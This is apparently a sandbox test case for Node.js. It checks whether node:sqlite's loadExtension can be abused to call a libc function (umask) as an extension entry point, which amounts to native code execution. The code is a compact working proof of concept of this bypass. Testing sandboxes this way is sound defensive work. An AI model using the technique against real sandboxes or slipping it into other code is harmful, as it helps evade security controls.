// class: machine_code
// rule: native_code
// needs: node>=22.13
// success: SQLite inside Node calls a function of libc as an extension's entry point
// proof: word
const { DatabaseSync } = require("node:sqlite");
const { attempt } = require("./attack.js");

attempt(() => {
  const database = new DatabaseSync(":memory:", { allowExtension: true });
  process.umask(0);
  try {
    // umask(database) takes the low bits of a pointer, and says that all is well.
    database.loadExtension("libc.so.6", "umask");
  } catch (error) {
    if (!/entry point|initialization/.test(error.message)) throw error;
  }
  return process.umask(0o22) !== 0;
});
